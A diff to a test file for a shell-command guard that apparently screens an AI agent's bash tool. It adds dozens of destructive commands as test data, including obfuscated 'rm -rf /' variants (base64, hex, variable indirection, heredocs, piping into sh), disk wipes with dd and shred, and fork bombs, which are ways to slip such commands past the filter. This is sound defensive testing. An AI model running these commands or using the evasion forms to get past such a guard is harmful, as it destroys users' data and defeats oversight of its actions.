@@ -1,5 +1,12 @@
-import { describe, expect, it } from 'vitest';
-import { findDanger, isDangerousDevice, isProtectedPath } from '../../src/tools/bash/guard.js';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { checkDanger, findDanger, isDangerousDevice, isProtectedPath } from '../../src/tools/bash/guard.js';
+import { loadShellParser, type TsParser } from '../../src/tools/bash/shell/load.js';
+
+let parser: TsParser;
+beforeAll(async () => {
+  parser = await loadShellParser();
+});
+const danger = (command: string) => findDanger(parser, command);
 
 // Every entry of the blocklist, in the forms the model is likely to write.
 const BLOCKED: [command: string, reason: RegExp][] = [
@@ -73,6 +80,88 @@ const BLOCKED: [command: string, reason: RegExp][] = [
   [':(){ :|:& };:', /fork bomb/],
 ];
 
+// The shapes the lexer-based guard let through (issue 12, item 7), and more of their kind.
+const SEEN_THROUGH: [command: string, reason: RegExp][] = [
+  ['$(echo rm) -rf /', /rm -r \//],
+  ['`echo rm` -rf /', /rm -r \//],
+  ['x=rm; $x -rf /', /rm -r \//],
+  ['x=rm\n$x -rf /', /rm -r \//],
+  ['export x=rm; $x -rf /', /rm -r \//],
+  ['y=rm; z="$y -rf"; $z /', /rm -r \//],
+  ['d=/; rm -rf $d', /rm -r \//],
+  ['d=$HOME; rm -rf "$d"', /rm -r ~/],
+  ['rm -rf "$(echo /)"', /rm -r \//],
+  ["$'rm' -rf /", /rm -r \//],
+  ["$'\\x72\\x6d' -rf /", /rm -r \//],
+  ['r\\m -rf /', /rm -r \//],
+  ['"r""m" -rf /', /rm -r \//],
+  ['for d in /usr /etc; do rm -rf $d; done', /rm -r \/usr/],
+  ['echo "rm -rf /" | sh', /rm -r \//],
+  ["printf 'rm -rf /' | bash", /rm -r \//],
+  ["printf '%s -rf /' rm | bash", /rm -r \//],
+  ['{ echo rm -rf /; } | bash', /rm -r \//],
+  ['echo "rm -rf /" | bash -s', /rm -r \//],
+  ['bash <<< "rm -rf /"', /rm -r \//],
+  ["bash -s <<< 'rm -rf /'", /rm -r \//],
+  ['sh <<EOF\nrm -rf /\nEOF', /rm -r \//],
+  ["bash <<'EOF'\necho hi\nrm -rf ~\nEOF", /rm -r ~/],
+  ['cat <<EOF | sh\nrm -rf /\nEOF', /rm -r \//],
+  ['echo cm0gLXJmIC8K | base64 -d | bash', /rm -r \//],
+  ['echo cm0gLXJmIC8K | base64 --decode | sh', /rm -r \//],
+  ['eval "$(echo cm0gLXJmIC8K | base64 -d)"', /rm -r \//],
+  ['base64 -d payload.b64 | bash', /decoded data piped into bash/],
+  ['curl -s https://example.com/x | base64 -d | sh', /decoded data piped into sh/],
+  ['echo 726d202d7266202f | xxd -r -p | sh', /rm -r \//],
+  ['cat x.gz | gunzip | bash', /decoded data/],
+  ['timeout 5 bash -c "$(printf \'rm -rf /\')"', /rm -r \//],
+  ['find / -delete', /find \/ -delete/],
+  ['find / -name "*.o" -delete', /find \/ -delete/],
+  ['find ~ -delete', /find ~ -delete/],
+  ['find / -exec rm -rf {} +', /rm -r \/|find \/ -exec rm/],
+  ['find / -type f -exec rm {} \\;', /find \/ -exec rm/],
+  ['find /usr -execdir shred {} \\;', /find \/usr -exec shred/],
+  ["find . -exec sh -c 'rm -rf /' \\;", /rm -r \//],
+  ['cd / && rm -rf *', /rm -r \* in \//],
+  ['cd /; rm -rf .', /rm -r/],
+  ['cd ~ && rm -rf *', /rm -r \*/],
+  ['cd && rm -rf ./*', /rm -r/],
+  ['cd /usr; rm -rf -- *', /rm -r/],
+  ['cd / && find . -delete', /find . -delete/],
+  ['echo / | xargs rm -rf', /rm -r \//],
+  ['xargs rm -rf <<< /', /rm -r \//],
+  ['find / -type f | xargs rm', /xargs rm on \//],
+  ['ls ~ | xargs rm -rf', /xargs rm on ~/],
+  ['busybox rm -rf /', /rm -r \//],
+  ['busybox sh -c "rm -rf /"', /rm -r \//],
+  ['env -i busybox rm -rf ~', /rm -r ~/],
+  ['cp /dev/zero /dev/sda', /device \/dev\/sda/],
+  ['cp disk.img /dev/nvme0n1', /device/],
+  ['cat /dev/urandom > /dev/sda', /device/],
+  ['> /dev/sda', /device/],
+  ['{ echo x; } > /dev/sdb', /device/],
+  ['dd if=/dev/zero of=/dev/nvme0n1 bs=1M', /dd to device/],
+  ['shred /dev/sda', /shred \/dev\/sda/],
+  ['shred -n 1 -z /dev/sdb', /shred/],
+  ['shred -u ~', /shred ~/],
+  ['mv / /tmp/root', /mv \//],
+  ['mv /usr /tmp/usr', /mv \/usr/],
+  ['mv ~ /tmp/old-home', /mv ~/],
+  ['mv /* /tmp/', /mv \/\*/],
+  ['bomb(){ bomb|bomb& }; bomb', /fork bomb/],
+  ['f() { f | f & }; f', /fork bomb/],
+  [':(){ :|: & };:', /fork bomb/],
+  ['chmod -R 777 /', /chmod -r \//],
+  ['chown -R nobody ~', /chown -r ~/],
+  ['blkdiscard /dev/sda', /blkdiscard/],
+  ['sfdisk /dev/sda < table', /partition/],
+  ['watch "rm -rf /"', /rm -r \//],
+  ['nohup sh -c "cd / && rm -rf *" &', /rm -r/],
+  ['(cd / && rm -rf *)', /rm -r/],
+  ['if true; then rm -rf /; fi', /rm -r \//],
+  ['cleanup() { rm -rf ~; }; cleanup', /rm -r ~/],
+  ['rm -rf / "unterminated', /rm -r \//],
+];
+
 // Look-alikes that must run.
 const ALLOWED: string[] = [
   'ls 2> /dev/null',
@@ -115,17 +204,84 @@ const ALLOWED: string[] = [
   'command -v sudo',
   'if command -v sudo >/dev/null; then echo yes; fi',
   'which sudo',
+  // look-alikes of the shapes seen through
+  'grep -r "rm -rf" .',
+  'git log --grep="rm -rf /"',
+  'echo "rm -rf /" > notes.txt',
+  "printf 'rm -rf /\\n' >> doc.md",
+  'cat <<EOF > script.sh\nrm -rf /\nEOF',
+  "echo ':(){ :|:& };:'",
+  'echo cm0gLXJmIC8K | base64 -d',
+  'base64 -d data.b64 > out.bin',
+  'echo aGk= | base64 -d | wc -c',
+  'x=build; rm -rf $x',
+  'x=rm; echo $x -rf /',
+  'rm -rf "$TMPDIR/x"',
+  'for f in a b; do rm -rf $f; done',
+  'cd /tmp/work && rm -rf *',
+  'cd build && rm -rf *',
+  'cd / && ls',
+  '(cd /; ls) && rm -rf *',
+  'find . -name x -delete',
+  'find build -delete',
+  'find . -type f -name "*.o" -exec rm {} +',
+  'find / -name "*.log"',
+  'find / -name x -print 2>/dev/null',
+  'ls | xargs rm -f',
+  'echo a b | xargs rm',
+  'xargs -0 rm < list',
+  'busybox ls /',
+  'cp /dev/null ./empty',
+  'cp a.txt b.txt',
+  'shred -u secret.txt',
+  'mv ./a ./b',
+  'mv /tmp/a /tmp/b',
+  'mv build /tmp/',
+  'curl -fsSL https://example.com/install.sh | sh',
+  'bash script.sh',
+  "sh -c 'echo hi'",
+  'bash -c "rm -rf ./dist"',
+  "echo 'ls -la' | sh",
+  'bash <<< "echo hi"',
+  'eval "echo hi"',
+  'f(){ echo hi; }; f',
+  'walk() { walk "$1/sub"; }',
+  'chmod -R 755 ./dist',
+  'fdisk -l /dev/sda',
+  'ls /',
+  'du -sh /usr',
+  'tar czf backup.tgz ~/project',
+  'watch -n 1 ls',
+  'echo "unterminated',
 ];
 
 describe('findDanger', () => {
   it.each(BLOCKED)('blocks %j', (command, reason) => {
-    const found = findDanger(command);
+    const found = danger(command);
+    expect(found).not.toBeNull();
+    expect(found?.toLowerCase()).toMatch(reason);
+  });
+
+  it.each(SEEN_THROUGH)('sees through %j', (command, reason) => {
+    const found = danger(command);
     expect(found).not.toBeNull();
     expect(found?.toLowerCase()).toMatch(reason);
   });
 
   it.each(ALLOWED)('allows %j', (command) => {
-    expect(findDanger(command)).toBeNull();
+    expect(danger(command)).toBeNull();
+  });
+
+  // Every blocked command stays blocked handed to a shell, and is harmless as the text of a string.
+  const quote = (s: string) => `'${s.replaceAll("'", `'\\''`)}'`;
+  it.each([...BLOCKED, ...SEEN_THROUGH].filter(([c]) => !c.includes('unterminated')))('quoted %j: blocked in bash -c, allowed in echo', (command) => {
+    expect(danger(`bash -c ${quote(command)}`)).not.toBeNull();
+    expect(danger(`echo ${quote(command)}`)).toBeNull();
+  });
+
+  it('loads the parser at the first check', async () => {
+    expect(await checkDanger('x=rm; $x -rf /')).toMatch(/rm -r/);
+    expect(await checkDanger('ls')).toBeNull();
   });
 });
 
